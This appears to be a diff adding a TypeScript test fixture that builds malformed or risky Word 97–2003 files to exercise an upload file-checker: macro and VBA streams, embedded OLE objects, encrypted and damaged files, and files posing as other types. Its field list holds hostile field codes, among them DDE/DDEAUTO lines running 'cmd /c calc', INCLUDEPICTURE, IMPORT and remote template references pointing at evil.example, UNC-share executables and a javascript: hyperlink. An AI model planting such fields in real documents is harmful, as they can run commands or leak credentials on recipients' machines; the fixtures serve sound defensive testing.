@@ -1,0 +1,135 @@
+import type { FileFault } from '#server/platform/uploads/file-checks/check-file.ts'
+import { type BadFile, firstHalf } from './bad-file.ts'
+import { buildDocx } from './docx.ts'
+import { buildDoc, buildOle, docField, type OlePart } from './ole.ts'
+
+const program = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
+const some = Buffer.alloc(9)
+
+function bad(name: string, fault: FileFault, bytes: () => Buffer): BadFile {
+  return { name: `doc: ${name}`, kind: 'doc', fault, bytes }
+}
+
+const parts: [name: string, ...parts: OlePart[]][] = [
+  [
+    'macros',
+    { name: 'Macros', holds: 2 },
+    { name: 'VBA', holds: 1 },
+    { name: '_VBA_PROJECT', content: some },
+  ],
+  ['macros in small letters', { name: 'macros', holds: 1 }, { name: 'vba' }],
+  ['macros at the top', { name: '_VBA_PROJECT_CUR', holds: 1 }, { name: 'dir', content: some }],
+  ['macros under another name', { name: 'Settings', holds: 1 }, { name: '_VBA_PROJECT', content: some }],
+  [
+    'macros among its data',
+    { name: 'MsoDataStore', holds: 2 },
+    { name: 'a', holds: 1 },
+    { name: 'VBA', content: some },
+  ],
+  [
+    'an embedded object',
+    { name: 'ObjectPool', holds: 2 },
+    { name: '_1', holds: 1 },
+    { name: 'x', content: some },
+  ],
+  ['an embedded object in small letters', { name: 'objectpool', holds: 1 }, { name: '_1', content: some }],
+  ['an embedded package', { name: '\u0001Ole10Native', content: some }],
+  ['an embedded package by another name', { name: 'Package', content: some }],
+  ['a control', { name: '\u0003OCXNAME', content: some }],
+  ['an embedded workbook', { name: 'Workbook', content: some }],
+  ['a part nobody knows', { name: 'Gadget', content: some }],
+  ['a link to another document', { name: '\u0001Ole', content: Buffer.from('0100000201000000', 'hex') }],
+]
+
+const fields = [
+  'DDE cmd "/c calc" x',
+  ' DDEAUTO cmd "/c calc"',
+  ' dDeAuto cmd x',
+  ' INCLUDEPICTURE "http://evil.example/a.png" \\d',
+  ' INCLUDETEXT "\\\\\\\\evil.example\\\\a.doc"',
+  ' LINK Excel.Sheet.8 "C:\\\\a.xls"',
+  ' EMBED Package',
+  ' MACROBUTTON AutoOpen Click',
+  ' IMPORT "http://evil.example/a"',
+  ' AUTOTEXT x',
+  ' DATABASE \\d "a.mdb"',
+  ' CONTROL Forms.CommandButton.1',
+  ' PRINT "x"',
+  ' HYPERLINK "file:///C:/Windows/a.exe"',
+  ' HYPERLINK "\\\\\\\\evil.example\\\\share\\\\a.exe"',
+  ' HYPERLINK \\l "here" "javascript:alert(1)"',
+  '',
+]
+
+const closed: BadFile[] = [
+  bad('encrypted', 'locked', () => buildDoc([], 'x', { flags: 0x0100 })),
+  bad('obfuscated', 'locked', () => buildDoc([], 'x', { flags: 0x8000 })),
+  bad('sealed package', 'locked', sealedPackage),
+  { name: 'docx: sealed by a password', kind: 'docx', fault: 'locked', bytes: sealedPackage },
+]
+
+const malformed: BadFile[] = [
+  bad('cut in half', 'damaged', () => firstHalf(buildDoc())),
+  bad('only its first bytes', 'damaged', () => buildDoc().subarray(0, 8)),
+  bad('only its header', 'damaged', () => buildDoc().subarray(0, 512)),
+  bad('a chain that leads into itself', 'damaged', loop),
+  bad('another main stream', 'damaged', () => buildOle([{ name: 'WordDocument', content: some }])),
+  bad('no table', 'damaged', () =>
+    buildOle([{ name: 'WordDocument', content: buildDoc().subarray(512, 2600) }]),
+  ),
+  bad('two main streams', 'damaged', () => buildDoc([{ name: 'WORDDOCUMENT', content: some }])),
+  bad('a field that does not end', 'damaged', () => buildDoc([], '\u0013PAGE\u0014')),
+  bad('a field that does not begin', 'damaged', () => buildDoc([], 'x\u0015')),
+]
+
+const twoFaced: BadFile[] = [
+  bad('a zip behind', 'active', () => Buffer.concat([buildDoc(), buildDocx()])),
+  bad('a program within', 'active', () => buildDoc([{ name: 'Data', content: program }])),
+  bad('a document within', 'active', () => buildDoc([{ name: 'Data', content: buildDoc() }])),
+  ...[
+    { name: 'xls called doc', bytes: () => buildOle([{ name: 'Workbook', content: some }]) },
+    { name: 'msi called doc', bytes: () => buildOle([{ name: '\u4840\u3f3f\u4577\u446c', content: some }]) },
+    { name: 'docx called doc', bytes: () => buildDocx() },
+    { name: 'rtf called doc', bytes: () => Buffer.from('{\\rtf1\\ansi{\\object\\objdata 01}}') },
+  ].map((one) => ({ ...one, kind: 'doc' as const, fault: 'wrong kind' as const })),
+  { name: 'doc called docx', kind: 'docx', fault: 'wrong kind', bytes: () => buildDoc() },
+]
+
+/** Word 97–2003 documents, and what passes for them. */
+export const badDocs = {
+  'DOC: macros, objects, links': [
+    ...parts.map(([name, ...more]) => bad(name, 'active', () => buildDoc(more))),
+    ...['http://evil.example/t.dot', '\\\\evil.example\\t.dot', 'file://evil.example/t.dot'].map((template) =>
+      bad(`a template at ${template}`, 'active', () => buildDoc([], 'x', { template })),
+    ),
+  ],
+  'DOC: fields': fields
+    .flatMap((field) => [bad(`a field ${field}`, 'active', () => buildDoc([], `x${docField(field)}`))])
+    .concat([
+      bad('a field within a field', 'active', () => buildDoc([], docField(` PAGE ${docField(' DDE x y')}`))),
+      bad('a field in the answer of another', 'active', () =>
+        buildDoc([], docField(' PAGE ', docField('DDE x y'))),
+      ),
+      bad('a field whose name another one makes', 'active', () =>
+        buildDoc([], docField(`${docField('QUOTE DDE')} x`)),
+      ),
+      bad('a field in narrow letters', 'active', () => buildDoc([], docField(' DDE x'), { narrow: true })),
+    ]),
+  'DOC: encrypted': closed,
+  'DOC: malformed': malformed,
+  'DOC: another file in the same bytes': twoFaced,
+} satisfies Record<string, BadFile[]>
+
+function sealedPackage(): Buffer {
+  return buildOle([
+    { name: 'EncryptedPackage', content: Buffer.alloc(99) },
+    { name: 'EncryptionInfo', content: Buffer.alloc(99) },
+  ])
+}
+
+function loop(): Buffer {
+  const bytes = buildDoc()
+  const fat = 512 + bytes.readUInt32LE(76) * 512
+  bytes.writeUInt32LE(0, fat)
+  return bytes
+}
